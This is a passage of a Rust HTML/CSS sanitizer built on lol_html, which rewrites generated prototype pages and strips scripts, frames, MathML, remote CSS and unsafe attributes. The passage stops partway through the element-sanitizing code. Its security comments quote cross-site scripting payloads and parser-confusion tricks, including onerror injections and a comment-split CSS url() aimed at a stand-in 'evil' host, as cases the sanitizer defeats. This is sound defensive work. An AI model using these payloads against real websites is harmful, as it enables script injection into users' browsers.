//! The streaming rewrite of one page or stylesheet with lol_html.
//!
//! Pages come from our tera templates today and from a small, unreliable LLM later, so input
//! is hostile. [`finalize_html`] runs lol_html twice: pass 1 only looks, and stops where the
//! body starts (what the head already has, stray end tags before the content), pass 2
//! rewrites while tracking where a browser opens `<html>`, `<head>` and `<body>`.
//! [`finalize_css`] strips remote references from a stylesheet; `<style>` and `style=""` get
//! the same treatment. With [`PageOptions::site`], references are checked against the site's
//! files: scripts must be among them, images get their new path, size and description.
//!
//! Invariants of the output (design invariant 4):
//! - no `<script>` but empty same-site `<script src>`; no frames, `<object>`, `<embed>`,
//!   `<applet>`, `<base>`, `<noscript>`, MathML, `<meta http-equiv=refresh>`;
//! - no `on*` attribute; no `javascript:`/`vbscript:`/`data:` URL (bar `data:image/` in
//!   `<img src>`) in any URL attribute; links may leave the site, resources (img, media,
//!   `<link>`, SVG `use`/`image`, …) and form actions may not;
//! - no remote `@import` or `url()` in any CSS;
//! - no `<` in attribute values, comments, or title/textarea/style text, and no tag cut off by
//!   the end of input: a parser that disagrees with lol_html on where text ends finds no tag;
//! - `<!DOCTYPE html>` first, `<html lang dir>`, a `<head>` with `<meta charset="utf-8">`, a
//!   viewport, `robots: noindex, nofollow` and a non-empty `<title>`; every `<img>` has an
//!   `alt`; URLs are valid URL strings; ids are unique; no heading skips a level;
//! - exactly one prototype banner, the first child of `<body>`, plus its `<style>`; every
//!   `<form>` holds one "prototype" note (with [`PageOptions::form_note`]);
//! - idempotent: `finalize_html(finalize_html(x)) == finalize_html(x)`.
//!
//! Every removal is reported in `warnings`, at most [`MAX_WARNINGS`] of them.

use std::borrow::Cow;
use std::cell::{Cell, RefCell};
use std::error::Error as StdError;
use std::ops::Range;
use std::rc::Rc;

use lol_html::errors::RewritingError;

use super::tree::resolve;
use lol_html::html_content::{ContentType, Element, TextChunk, TextType};
use lol_html::{
    HandlerResult, HtmlRewriter, OutputSink, Settings, comments, doc_comments, doc_text, doctype,
    element, end_tag, text,
};

/// Warnings kept per call; the rest are summed up in a final "… and N more".
pub const MAX_WARNINGS: usize = 50;

const HTML_NS: &str = "http://www.w3.org/1999/xhtml";
/// Marks the banner and its style, so a second run replaces them instead of adding more.
const MARKER: &str = "data-pf-banner";
const CHARSET_META: &str = r#"<meta charset="utf-8">"#;
const VIEWPORT_META: &str =
    r#"<meta name="viewport" content="width=device-width, initial-scale=1">"#;
const ROBOTS: &str = "noindex, nofollow";
const ROBOTS_META: &str = r#"<meta name="robots" content="noindex, nofollow">"#;
const BANNER_STYLE: &str = concat!(
    "<style data-pf-banner>",
    ".pf-banner{position:sticky;top:0;z-index:2147483647;display:block;box-sizing:border-box;",
    "width:100%;max-width:none;margin:0;padding:.35em .75em;border:0;",
    "font:600 13px/1.4 system-ui,sans-serif;text-align:center;",
    "color:#fff;background:#111827;border-bottom:1px solid #4b5563}",
    ".pf-banner:not([open]):not(div){display:none}.pf-banner form{margin:0}",
    ".pf-banner-close{min-width:24px;min-height:24px;margin-inline-start:.75em;padding:0 .4em;",
    "font:inherit;color:inherit;background:transparent;border:1px solid #9ca3af;",
    "border-radius:4px;cursor:pointer}",
    ".pf-form-note{font-size:.875em;opacity:.85}",
    "</style>"
);
/// Marks the note finalize (or our templates) put in a form.
const FORM_NOTE_MARKER: &str = "data-pf-form-note";
/// Grey picture-frame shown instead of a remote image.
const IMG_PLACEHOLDER: &str = concat!(
    "data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20width='64'%20height='48'",
    "%20viewBox='0%200%2064%2048'%3E%3Crect%20width='64'%20height='48'%20fill='%23e5e7eb'/%3E",
    "%3Cpath%20d='M8%2040l16-18%2012%2012%208-8%2012%2014z'%20fill='%239ca3af'/%3E%3C/svg%3E"
);

/// Text direction of the page, written to `<html dir>`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Direction {
    #[default]
    Ltr,
    Rtl,
}

impl Direction {
    /// The value of `<html dir>`.
    pub fn as_str(self) -> &'static str {
        match self {
            Direction::Ltr => "ltr",
            Direction::Rtl => "rtl",
        }
    }
}

/// What [`finalize_html`] writes into every page.
#[derive(Debug, Clone, Copy, Default)]
pub struct PageOptions<'a> {
    /// BCP 47 tag, already validated.
    pub lang: &'a str,
    pub dir: Direction,
    /// Already-localized plain text, e.g. "Prototype — expires on 2026-12-02".
    pub banner: &'a str,
    /// Plain-text `<title>` used when the page has none (or an empty one).
    pub title: &'a str,
    /// Accessible name of the banner's close button ("Dismiss"); empty: the banner stays.
    pub dismiss: &'a str,
    /// Added to every form that lacks one ("This is a prototype: messages are not sent.");
    /// empty: none.
    pub form_note: &'a str,
    /// The page's path in the site (`index.html` when empty), to resolve references.
    pub path: &'a str,
    /// What the rest of the site holds, when a whole site is finalized.
    pub site: Option<&'a SiteFiles>,
}

/// The site around a page: what its references may point at.
#[derive(Debug, Clone, Default)]
pub struct SiteFiles {
    /// Every file of the site, by path.
    pub files: std::collections::BTreeSet<String>,
    /// The stylesheet and script every page links (`styles.css`, `script.js`), if the site
    /// has them.
    pub stylesheet: Option<String>,
    pub script: Option<String>,
    /// Images by the path pages refer to them with.
    pub images: std::collections::HashMap<String, ImageInfo>,
}

/// What finalize knows about one image of the site.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImageInfo {
    /// Where the image is now (re-encoding may change its format, and so its name).
    pub path: String,
    pub width: u32,
    pub height: u32,
    /// The customer's description, for `alt` when the page gives none.
    pub alt: Option<String>,
}

impl PageOptions<'_> {
    fn page_path(&self) -> &str {
        if self.path.is_empty() { "index.html" } else { self.path }
    }
}

/// A page ready to publish, and what was removed or added on the way.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finalized {
    pub html: String,
    pub warnings: Vec<String>,
}

/// A stylesheet ready to publish, and what was removed on the way.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FinalizedCss {
    pub css: String,
    pub warnings: Vec<String>,
}

/// Why a page could not be finalized; such a page must not be published.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum FinalizeError {
    #[error(
        "cannot rewrite the page ({pass}): {source}; hint: lol_html refuses markup it cannot \
         parse unambiguously (e.g. <xmp> or <script> inside <select>): regenerate or simplify \
         the page"
    )]
    Rewrite { pass: &'static str, source: RewritingError },
    #[error(
        "the finalized page is not valid UTF-8: {source}; hint: this is a bug in finalize.rs \
         (the input was a &str), report it together with the page"
    )]
    NotUtf8 { source: std::string::FromUtf8Error },
    #[error(
        "{page}: the rewritten page is still unsafe in a browser's eyes: {}; hint: this is a \
         bug in finalize (lol_html and html5ever disagree on this markup); the job is failed \
         rather than published, report it together with the page",
        problems.join("; ")
    )]
    Unsafe { page: String, problems: Vec<String> },
    #[error("{page}: {source}")]
    Page { page: String, source: Box<FinalizeError> },
    #[error(
        "the site is {bytes} bytes, over the hard cap of {cap} (finalize.hard_cap_bytes); hint: \
         send smaller or fewer files, or raise the cap"
    )]
    OverBudget { bytes: u64, cap: u64 },
}

type BoxError = Box<dyn StdError + Send + Sync + 'static>;

/// Rewrite `input` into a publishable page: sanitized, completed, bannered (see module docs).
pub fn finalize_html(input: &str, opts: &PageOptions<'_>) -> Result<Finalized, FinalizeError> {
    // A BOM would turn into body text once our doctype precedes it.
    let input = input.strip_prefix('\u{feff}').unwrap_or(input);
    let (facts, stray) = survey(input, opts)?;
    let original = input;
    let without_stray;
    let input = if stray.is_empty() {
        input
    } else {
        without_stray = stray.iter().rev().fold(input.to_owned(), |mut s, range| {
            s.replace_range(range.clone(), "");
            s
        });
        &without_stray
    };

    let state = Rc::new(RefCell::new(Rewrite::new(opts, facts, input.len())));
    if !stray.is_empty() {
        let tags: Vec<&str> = stray.iter().filter_map(|r| original.get(r.clone())).collect();
        let tags = shown(&tags.join(" "));
        state
            .borrow_mut()
            .warnings
            .push(|| format!("removed stray markup before the content: {tags}"));
    }
    let depth = Rc::new(Cell::new(0u32));
    let mut out = Vec::with_capacity(input.len() + 1024);
    out.extend_from_slice(b"<!DOCTYPE html>");
    if !facts.doctype {
        out.push(b'\n');
    }
    let after_doctype = out.len();
    let settings = Settings::new()
        .append_element_content_handler(element!("*", |el| on_element(el, &state, &depth)))
        .append_element_content_handler(text!("style", |t| on_style_text(t, &state)))
        .append_element_content_handler(comments!("style", |c| {
            // SECURITY: comments split SVG <style> text into nodes whose concatenation is the
            // CSS (`u<!---->rl(https://evil)`); drop them so we sanitize what the browser reads.
            if state.borrow().style == StyleMode::Foreign {
                c.remove();
            }
            Ok(())
        }))
        .append_document_content_handler(doc_text!(|t| on_doc_text(t, &state, &depth)))
        .append_document_content_handler(doc_comments!(|c| {
            // A comment the input leaves unclosed reaches into the sentinel; it would swallow
            // what we append, and is invisible anyway.
            if c.source_location().bytes().end > input.len() {
                c.remove();
            } else if c.text().contains('<') {
                // SECURITY: as for attribute values (see sanitize_attributes), no `<` in a
                // comment: `<textarea><!--</textarea><img onerror=…>-->` if a parser
                // disagrees on where the textarea is.
                let text = c.text().replace('<', "&lt;");
                if c.set_text(&text).is_err() {
                    c.remove();
                }
            }
            Ok(())
        }))
        .append_document_content_handler(doctype!(|d| {
            // Ours is already written; any other would come too late or pick a legacy mode.
            d.remove();
            Ok(())
        }));
    rewrite(settings, input, "pass 2, rewrite", |c: &[u8]| out.extend_from_slice(c))?;

    let mut s = state.borrow_mut();
    close_document(&mut s, &mut out, input, after_doctype, depth.get());
    let html = String::from_utf8(out).map_err(|source| FinalizeError::NotUtf8 { source })?;
    Ok(Finalized { html, warnings: std::mem::take(&mut s.warnings).finish() })
}

/// Append what the input left open, and open what it never did.
fn close_document(
    s: &mut Rewrite,
    out: &mut Vec<u8>,
    input: &str,
    after_doctype: usize,
    open_templates: u32,
) {
    if s.open_cdata {
        out.extend_from_slice(b"]]>");
    }
    if let Some(name) = s.open_raw_text.take() {
        // `<title>x` at the end: the rest would be title text.
        out.extend_from_slice(format!("</{name}>").as_bytes());
    }
    for _ in 0..open_templates {
        // …and the rest of an unclosed <template> would be inert template content.
        out.extend_from_slice(b"</template>");
    }
    if s.tracker.phase != Phase::InBody {
        // No body content: open whatever the page never opened; before everything if the page
        // has no element at all.
        let at = if s.tracker.phase == Phase::Initial { after_doctype } else { out.len() };
        let step = s.tracker.text();
        let prefix = s.prefix(&step);
        out.splice(at..at, prefix.bytes());
    }
    // Close what we opened, unless the page closes it itself (even as a stray end tag, which we
    // cannot see): end tags are optional, and a duplicate would not be valid.
    let mut tail = String::new();
    if (s.tracker.synth_body || s.tracker.synth_html) && !contains_ignore_case(input, "</html") {
        if s.tracker.synth_body && !contains_ignore_case(input, "</body") {
            tail.push_str("\n</body>");
        }
        if s.tracker.synth_html {
            tail.push_str("\n</html>");
        }
    }
    if !tail.is_empty() {
        tail.push('\n');
        out.extend_from_slice(tail.as_bytes());
    }
}

/// Strip remote `@import` rules (dropped) and remote or script `url()`s (replaced by `none`).
pub fn finalize_css(input: &str) -> FinalizedCss {
    let mut warnings = Warnings::default();
    let css = sanitize_css(input, false, &mut warnings).into_owned();
    FinalizedCss { css, warnings: warnings.finish() }
}

/// Written after the input so that lol_html finishes any tag the input leaves open: a
/// double-quoted value is closed by `"`, a single-quoted one by `'`, the tag by `>`.
// SECURITY: lol_html passes an unterminated tag at the end through unparsed, and whatever we
// append would complete it: `<img src=x onerror=alert(1)` + `</body>`. With the sentinel,
// lol_html sees it as a tag, and the handlers drop everything that reaches into the sentinel
// (browsers drop a tag cut off by the end of input too).
const SENTINEL: &str = "\"'>";

fn rewrite<O: OutputSink>(
    settings: Settings<'_, '_>,
    input: &str,
    pass: &'static str,
    sink: O,
) -> Result<(), FinalizeError> {
    // strict (the default): lol_html errors out rather than guess where the browser's
    // tokenizer would be, which is what keeps our view of the page equal to the browser's.
    let mut rewriter = HtmlRewriter::new(settings, sink);
    let err = |source| FinalizeError::Rewrite { pass, source };
    rewriter.write(input.as_bytes()).map_err(err)?;
    rewriter.write(SENTINEL.as_bytes()).map_err(err)?;
    rewriter.end().map_err(err)
}

/// The part of a text chunk that comes from the input, not from [`SENTINEL`].
fn text_in_input<'t>(t: &'t TextChunk<'_>, input_len: usize) -> &'t str {
    let range = t.source_location().bytes();
    if range.end <= input_len {
        return t.as_str();
    }
    t.as_str().get(..input_len.saturating_sub(range.start)).unwrap_or_default()
}

/// Cut [`SENTINEL`] out of a text chunk (idempotent).
fn trim_sentinel(t: &mut TextChunk<'_>, input_len: usize) {
    let keep = text_in_input(t, input_len).len();
    if keep < t.as_str().len() {
        let kept = t.as_str()[..keep].to_owned();
        t.set_str(kept);
    }
}

// ---------------------------------------------------------------------------------------------
// Document structure

/// Where the browser's tree builder would be, coarsely: enough to know where `<html>`, `<head>`
/// and `<body>` begin even when the page leaves them implicit.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
enum Phase {
    #[default]
    Initial,
    BeforeHead,
    /// In the head, or after it but before anything that belongs in the body.
    InHead,
    InBody,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
enum Role {
    #[default]
    Content,
    /// The page's own `<html>` (first start tag).
    Html,
    Head,
    Body,
    /// An `<html>`, `<head>` or `<body>` where the browser would ignore it.
    Stray,
}

/// What to write before a node, and what the node is.
#[derive(Debug, Default, Clone, Copy)]
struct Step {
    open_html: bool,
    open_head: bool,
    close_head: bool,
    open_body: bool,
    role: Role,
    /// The node belongs to the head (counts for "has a title" etc.).
    in_head: bool,
}

#[derive(Debug, Default)]
struct Tracker {
    phase: Phase,
    synth_html: bool,
    synth_body: bool,
}

impl Tracker {
    fn start_tag(&mut self, name: &str) -> Step {
        let mut step = Step::default();
        if self.phase == Phase::Initial {
            self.phase = Phase::BeforeHead;
            if name == "html" {
                step.role = Role::Html;
                return step;
            }
            step.open_html = true;
            self.synth_html = true;
        }
        if self.phase == Phase::BeforeHead {
            match name {
                "head" => {
                    self.phase = Phase::InHead;
                    step.role = Role::Head;
                    return step;
                }
                "html" => {
                    step.role = Role::Stray;
                    return step;
                }
                _ => {}
            }
            step.open_head = true;
            self.phase = Phase::InHead;
            if is_head_content(name) {
                step.in_head = true;
                return step;
            }
            step.close_head = true;
        }
        if self.phase == Phase::InHead {
            if is_head_content(name) {
                step.in_head = true;
                return step;
            }
            if matches!(name, "html" | "head") {
                step.role = Role::Stray;
                return step;
            }
            self.phase = Phase::InBody;
            if name == "body" {
                step.role = Role::Body;
            } else {
                step.open_body = true;
                self.synth_body = true;
            }
            return step;
        }
        if matches!(name, "html" | "head" | "body") {
            step.role = Role::Stray;
        }
        step
    }

    /// Non-whitespace text outside any element: the browser starts the body here.
    fn text(&mut self) -> Step {
        self.start_tag("#text")
    }
}

/// Elements the browser keeps in (or moves to) the head.
fn is_head_content(name: &str) -> bool {
    matches!(
        name,
        "base"
            | "basefont"
            | "bgsound"
            | "link"
            | "meta"
            | "noframes"
            | "noscript"
            | "script"
            | "style"
            | "template"
            | "title"
    )
}

/// Count open `<template>`s: their content is inert and must not move the tracker.
fn track_template(el: &mut Element<'_, '_>, name: &str, depth: &Rc<Cell<u32>>) -> HandlerResult {
    if name == "template" && el.can_have_content() {
        depth.set(depth.get() + 1);
        let depth = Rc::clone(depth);
        el.on_end_tag(end_tag!(move |_| {
            depth.set(depth.get().saturating_sub(1));
            Ok(())
        }))?;
    }
    Ok(())
}

fn is_html_whitespace(s: &str) -> bool {
    s.bytes().all(|b| matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c'))
}

/// `needle` must start with `<`, which keeps this a cheap scan.
fn contains_ignore_case(haystack: &str, needle: &str) -> bool {
    haystack.match_indices('<').any(|(i, _)| {
        haystack
            .as_bytes()
            .get(i..i + needle.len())
            .is_some_and(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
    })
}

/// What pass 1 found in the head.
#[derive(Debug, Default, Clone, Copy)]
struct Facts {
    doctype: bool,
    charset: bool,
    viewport: bool,
    robots: bool,
    title: bool,
    /// The first `<title>` has text.
    title_text: bool,
    /// The page links the site's stylesheet / script already.
    stylesheet: bool,
    script: bool,
    banner_style: bool,
    /// Something in the page opens the body (else the banner goes before `</html>` or at the end).
    reaches_body: bool,
}

/// Ends pass 1 at the body: a 100 KB page costs what its head costs.
#[derive(Debug)]
struct SurveyDone;

impl std::fmt::Display for SurveyDone {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("survey done")
    }
}

impl StdError for SurveyDone {}

/// Pass 1: run the same tracker as pass 2 and note what the head already has.
/// Also returns the byte ranges of stray end tags before the first element or text.
fn survey(
    input: &str,
    opts: &PageOptions<'_>,
) -> Result<(Facts, Vec<Range<usize>>), FinalizeError> {
    let facts = RefCell::new(Facts::default());
    let tracker = RefCell::new(Tracker::default());
    let depth = Rc::new(Cell::new(0u32));
    // Before the first element or text: what lol_html reported (comments, doctypes,
    // whitespace), and where that stretch ends.
    let lead = RefCell::new((Vec::<Range<usize>>::new(), None::<usize>));
    let in_lead = |range: Range<usize>| {
        let mut lead = lead.borrow_mut();
        if lead.1.is_none() {
            lead.0.push(range.start..range.end.min(input.len()));
        }
    };
    let settings = Settings::new()
        .append_element_content_handler(element!("*", |el| {
            let range = el.source_location().bytes();
            if range.end > input.len() {
                return Ok(()); // cut off by the end of input: pass 2 drops it
            }
            lead.borrow_mut().1.get_or_insert(range.start);
            let name = el.tag_name();
            if let Some(site) = opts.site {
                let links = |attr: &str, to: &Option<String>| {
                    let url = el.get_attribute(attr).map(|v| decode_entities(&v).into_owned());
                    to.is_some()
                        && url.is_some_and(|u| {
                            classify_url(&u).0 == UrlKind::Relative
                                && resolve(opts.page_path(), u.trim()) == *to
                        })
                };
                let mut f = facts.borrow_mut();
                let stylesheet = el.get_attribute("rel").is_some_and(|r| {
                    r.split_ascii_whitespace().any(|w| w.eq_ignore_ascii_case("stylesheet"))
                });
                f.stylesheet |= name == "link" && stylesheet && links("href", &site.stylesheet);
                f.script |= name == "script" && links("src", &site.script);
            }
            let step = (depth.get() == 0).then(|| tracker.borrow_mut().start_tag(&name));
            if tracker.borrow().phase == Phase::InBody {
                // Everything pass 2 needs to know comes before the body.
                return Err(Box::new(SurveyDone));
            }
            if step.is_some_and(|s| s.in_head) {
                let mut f = facts.borrow_mut();
                match name.as_str() {
                    "meta" => match classify_meta(el) {
                        Meta::Charset { .. } | Meta::ContentType { utf8: true } => f.charset = true,
                        Meta::Viewport => f.viewport = true,
                        Meta::Robots => f.robots = true,
                        _ => {}
                    },
                    "title" => f.title = true,
                    "style" if el.has_attribute(MARKER) => f.banner_style = true,
                    _ => {}
                }
            }
            track_template(el, &name, &depth)
        }))
        .append_document_content_handler(doc_text!(|t| {
            let text = text_in_input(t, input.len());
            if is_html_whitespace(text) {
                in_lead(t.source_location().bytes());
                return Ok(());
            }
            lead.borrow_mut().1.get_or_insert(t.source_location().bytes().start);
            let mut tracker = tracker.borrow_mut();
            if depth.get() == 0 && tracker.phase != Phase::InBody && t.text_type() == TextType::Data
            {
                tracker.text();
                if tracker.phase == Phase::InBody {
                    return Err(Box::new(SurveyDone));
                }
            }
            Ok(())
        }))
        .append_element_content_handler(text!("title", |t| {
            if !is_html_whitespace(text_in_input(t, input.len())) {
                facts.borrow_mut().title_text = true;
            }
            Ok(())
        }))
        .append_document_content_handler(doc_comments!(|c| {
            in_lead(c.source_location().bytes());
            Ok(())
        }))
        .append_document_content_handler(doctype!(|d| {
            in_lead(d.source_location().bytes());
            facts.borrow_mut().doctype = true;
            Ok(())
        }));
    match rewrite(settings, input, "pass 1, survey", |_: &[u8]| {}) {
        Err(FinalizeError::Rewrite { source: RewritingError::ContentHandlerError(e), .. })
            if e.is::<SurveyDone>() => {}
        other => other?,
    }
    let mut facts = facts.into_inner();
    facts.reaches_body = tracker.into_inner().phase == Phase::InBody;
    // What lol_html did not report there are end tags (`</html>`, `</br>`, `</p>`): browsers
    // may open <html>, <head> and <body> for them, ahead of ours.
    let (covered, end) = lead.into_inner();
    let end = end.unwrap_or(input.len());
    let mut stray = Vec::new();
    let mut pos = 0;
    for range in covered.into_iter().take_while(|r| r.start < end) {
        if range.start > pos {
            stray.push(pos..range.start);
        }
        pos = pos.max(range.end);
    }
    if end > pos {
        stray.push(pos..end);
    }
    Ok((facts, stray))
}

// ---------------------------------------------------------------------------------------------
// Pass 2

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum StyleMode {
    /// Not inside a `<style>`.
    None,
    /// Inside a `<style>` that is being removed or replaced.
    Skip,
    /// HTML `<style>`: raw text, one text node.
    Raw,
    /// SVG/MathML `<style>`: entities decoded, CDATA and comments split the text.
    Foreign,
}

/// Pass 2 state. Owned (no borrows) because end-tag handlers must be `'static`.
struct Rewrite {
    tracker: Tracker,
    facts: Facts,
    warnings: Warnings,
    lang: String,
    dir: &'static str,
    html_open: String,
    /// Viewport, robots, title, banner style: whichever are missing, each after a newline.
    head_extras: String,
    banner: String,
    extras_placed: bool,
    banner_style_placed: bool,
    /// Every `id` so far, to keep them unique.
    ids: std::collections::HashSet<String>,
    /// The next suffix to try for each duplicated id (so renaming stays linear).
    next_suffix: std::collections::HashMap<String, u32>,
    /// The level of the last heading, so none skips a level.
    last_heading: Option<u8>,
    /// Open `<map>` elements: an `<area>` outside one is invalid.
    open_maps: Rc<Cell<u32>>,
    /// `<img>`s so far: all but the first load lazily.
    images: u32,
    /// The open `<form>` has a prototype note already.
    form_noted: Rc<Cell<bool>>,
    form_note: String,
    title: String,
    path: String,
    site: Option<SiteFiles>,
    style: StyleMode,
    /// Where the input ends and [`SENTINEL`] begins.
    input_len: usize,
    /// The input ends inside `<![CDATA[`.
    open_cdata: bool,
    /// An element whose content is text up to its end tag (title, textarea, …), still open.
    open_raw_text: Option<String>,
    /// The current `<style>`'s CSS so far.
    style_buf: String,
    /// The current SVG `<style>` text node, entities still encoded.
    node_buf: String,
}

impl Rewrite {
    fn new(opts: &PageOptions<'_>, facts: Facts, input_len: usize) -> Rewrite {
        let mut head_extras = String::new();
        for (missing, item) in [
            (!facts.viewport, Cow::Borrowed(VIEWPORT_META)),
            (!facts.robots, Cow::Borrowed(ROBOTS_META)),
            (!facts.title, Cow::Owned(format!("<title>{}</title>", escape_html(opts.title)))),
            (!facts.banner_style, Cow::Borrowed(BANNER_STYLE)),
            (
                !facts.stylesheet && opts.site.is_some_and(|s| s.stylesheet.is_some()),
                Cow::Owned(format!(
                    r#"<link rel="stylesheet" href="{}">"#,
                    escape_html(&relative_to(
                        opts.page_path(),
                        opts.site.and_then(|s| s.stylesheet.as_deref()).unwrap_or("")
                    ))
                )),
            ),
            (
                !facts.script && opts.site.is_some_and(|s| s.script.is_some()),
                Cow::Owned(format!(
                    r#"<script src="{}" defer></script>"#,
                    escape_html(&relative_to(
                        opts.page_path(),
                        opts.site.and_then(|s| s.script.as_deref()).unwrap_or("")
                    ))
                )),
            ),
        ] {
            if missing {
                head_extras.push('\n');
                head_extras.push_str(&item);
            }
        }
        Rewrite {
            tracker: Tracker::default(),
            facts,
            warnings: Warnings::default(),
            lang: opts.lang.to_owned(),
            dir: opts.dir.as_str(),
            html_open: format!(
                r#"<html lang="{}" dir="{}">"#,
                escape_html(opts.lang),
                opts.dir.as_str()
            ),
            head_extras,
            banner: if opts.dismiss.is_empty() {
                format!(
                    r#"<div class="pf-banner" role="note" {MARKER}>{}</div>"#,
                    escape_html(opts.banner)
                )
            } else {
                // A non-modal dialog closed by a method=dialog form: dismissible without
                // script, so CSP and a page without JavaScript change nothing.
                format!(
                    concat!(
                        r#"<dialog class="pf-banner" open aria-label="{0}" {1}>"#,
                        r#"<form method="dialog">{0}<button class="pf-banner-close" "#,
                        r#"aria-label="{2}">×</button></form></dialog>"#
                    ),
                    escape_html(opts.banner),
                    MARKER,
                    escape_html(opts.dismiss)
                )
            },
            extras_placed: false,
            banner_style_placed: false,
            ids: std::collections::HashSet::new(),
            next_suffix: std::collections::HashMap::new(),
            last_heading: None,
            open_maps: Rc::new(Cell::new(0)),
            images: 0,
            form_noted: Rc::new(Cell::new(true)),
            form_note: if opts.form_note.is_empty() {
                String::new()
            } else {
                format!(
                    r#"<p class="pf-form-note" {FORM_NOTE_MARKER}>{}</p>"#,
                    escape_html(opts.form_note)
                )
            },
            title: opts.title.to_owned(),
            path: opts.page_path().to_owned(),
            site: opts.site.cloned(),
            style: StyleMode::None,
            input_len,
            open_cdata: false,
            open_raw_text: None,
            style_buf: String::new(),
            node_buf: String::new(),
        }
    }

    /// Markup the page left implicit, to write before the current node.
    fn prefix(&self, step: &Step) -> String {
        let mut p = String::new();
        if step.open_html {
            p.push_str(&self.html_open);
            p.push('\n');
        }
        if step.open_head {
            p.push_str("<head>");
            if !self.facts.charset {
                p.push('\n');
                p.push_str(CHARSET_META);
                p.push_str(&self.head_extras);
            }
            p.push('\n');
        }
        if step.close_head {
            p.push_str("</head>\n");
        }
        if step.open_body {
            // No newline after the banner: a second run would find it and add another.
            p.push_str("<body>");
            p.push_str(&self.banner);
        }
        p
    }

    /// The SVG `<style>`'s whole CSS, sanitized and re-escaped for an HTML text node.
    fn flush_foreign_style(&mut self) -> String {
        let node = std::mem::take(&mut self.node_buf);
        self.style_buf.push_str(&decode_entities(&node));
        let css = std::mem::take(&mut self.style_buf);
        self.style = StyleMode::None;
        escape_html(&sanitize_css(&css, false, &mut self.warnings)).into_owned()
    }
}

fn on_element(
    el: &mut Element<'_, '_>,
    state: &Rc<RefCell<Rewrite>>,
    depth: &Rc<Cell<u32>>,
) -> HandlerResult {
    let name = el.tag_name();
    let mut guard = state.borrow_mut();
    let s = &mut *guard;
    if el.source_location().bytes().end > s.input_len {
        // Cut off by the end of input (completed by the sentinel): browsers drop it too.
        s.warnings.push(|| format!("removed unterminated <{name}> tag at the end"));
        el.remove();
        return Ok(());
    }
    let step = if depth.get() == 0 { s.tracker.start_tag(&name) } else { Step::default() };
    let prefix = s.prefix(&step);
    if !prefix.is_empty() {
        el.before(&prefix, ContentType::Html);
    }
    match step.role {
        Role::Html => {
            set_if_different(el, "lang", &s.lang)?;
            set_if_different(el, "dir", s.dir)?;
            if !s.facts.reaches_body && el.can_have_content() {
                // A page without body content: open the body (with the banner) before
                // `</html>`, as content after it would not be valid.
                let state = Rc::clone(state);
                el.on_end_tag(end_tag!(move |end| {
                    let mut s = state.borrow_mut();
                    let step = s.tracker.text();
                    end.before(&s.prefix(&step), ContentType::Html);
                    Ok(())
                }))?;
            }
        }
        Role::Head if !s.facts.charset => {
            el.prepend(&format!("\n{CHARSET_META}{}", s.head_extras), ContentType::Html);
        }
        Role::Body => el.prepend(&s.banner, ContentType::Html),
        Role::Stray => {
            s.warnings.push(|| format!("removed misplaced <{name}> tag (its content is kept)"));
            el.remove_and_keep_content();
            return Ok(());
        }
        Role::Head | Role::Content => {}
    }
    track_template(el, &name, depth)?;
    sanitize_element(el, &name, step.in_head, s, state)?;
    let raw_text = matches!(name.as_str(), "title" | "textarea" | "style" | "script");
    if raw_text && !el.removed() && el.can_have_content() && el.namespace_uri() == HTML_NS {
        s.open_raw_text = Some(name);
        let state = Rc::clone(state);
        el.on_end_tag(end_tag!(move |_| {
            state.borrow_mut().open_raw_text = None;
            Ok(())
        }))?;
    }
    Ok(())
}

fn set_if_different(el: &mut Element<'_, '_>, name: &str, value: &str) -> HandlerResult {
    if el.get_attribute(name).as_deref() != Some(value) {
        el.set_attribute(name, &escape_for_set(value))?;
    }
    Ok(())
}

fn sanitize_element(
    el: &mut Element<'_, '_>,
    tag: &str,
    in_head: bool,
    s: &mut Rewrite,
    state: &Rc<RefCell<Rewrite>>,
) -> HandlerResult {
    let html_ns = el.namespace_uri() == HTML_NS;
    // `<image>` is an old spelling browsers still read as `<img>`.
    let tag = if tag == "image" && html_ns { "img" } else { tag };
    // Most elements have no attributes: skip the lookups.
    let bare = el.attributes().is_empty();
    if html_ns && !in_head && is_site_link(el, tag, s) {
        // The head links it already (finalize added it there): one copy is enough.
        el.remove();
        return Ok(());
    }
    let w = &mut s.warnings;
    let removed = match tag {
        "script" => remove_script(el, html_ns, s.site.as_ref(), &s.path, w)?,
        "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "portal"
        | "fencedframe" => {
            // SECURITY: nested browsing contexts and plugins run remote or inline (srcdoc) code
            // and can frame a phishing page; a prototype needs none of them.
            let what = ["src", "data", "code", "srcdoc"]
                .iter()
                .find_map(|a| el.get_attribute(a).map(|v| (*a, v)))
                .map(|(a, v)| match a {
                    "srcdoc" => " srcdoc".to_owned(),
                    _ => format!(" {}", shown(&decode_entities(&v))),
                })
                .unwrap_or_default();
            w.push(|| format!("removed <{tag}>{what}"));
            el.remove();
            true
        }
        "math" => {
            // SECURITY: lol_html's tree-builder model takes `<math><mi><mglyph><title>` for an
            // HTML (RCDATA) title, browsers for a MathML element whose `<img onerror>` child
            // runs. A prototype needs no MathML, so none of it is published.
            w.push(|| "removed <math> (MathML is not published)".into());
            el.remove();
            true
        }
        "noscript" | "noembed" | "noframes" | "xmp" | "plaintext" => {
            // SECURITY: raw text to lol_html (and to browsers with scripting on) but markup to
            // browsers with it off (`<noscript><p title="</noscript><img onerror=…>">`), or when
            // a parser takes it for SVG: its content cannot be sanitized, so it goes. xmp and
            // plaintext are obsolete raw-text elements.
            w.push(|| format!("removed <{tag}> (its content cannot be sanitized)"));
            el.remove();
            true
        }
        "base" => {
            // SECURITY: <base href> re-points every relative URL (script.js, forms, links) at
            // another site.
            let href = el.get_attribute("href").map(|h| shown(&decode_entities(&h)));
            w.push(|| format!("removed <base href={}>", href.unwrap_or_default()));
            el.remove();
            true
        }
        "meta" => meta_policy(el, in_head, s)?,
        "link" => remove_remote_link(el, w),
        "style" => style_start(el, html_ns, in_head, s, state)?,
